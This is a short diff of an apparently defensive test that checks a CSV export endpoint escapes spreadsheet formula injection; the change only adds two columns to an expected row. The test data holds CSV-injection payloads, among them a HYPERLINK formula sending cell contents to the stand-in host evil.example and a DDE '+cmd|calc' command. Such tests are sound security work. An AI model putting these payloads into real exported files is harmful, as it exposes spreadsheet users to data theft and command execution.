@@ -269,7 +269,7 @@ describe('hostile inputs', () => {
       const csv = await t.http.get('/api/v1/models').query({ from: date, to: date, format: 'csv' });
       expect(csv.status).toBe(200);
       const lines = csv.text.trim().split('\r\n');
-      expect(lines).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",unknown,1,1,10,20,30,40,100,0.5000,0.25`);
+      expect(lines).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",unknown,1,1,10,20,30,40,100,0.5000,0.25,false,false`);
       expect(lines.some((l) => l.startsWith("'+cmd|calc,"))).toBe(true);
       expect(lines.some((l) => l.startsWith("'@SUM(1+1),"))).toBe(true);
       expect(lines.some((l) => l.startsWith("'-2+3,"))).toBe(true);
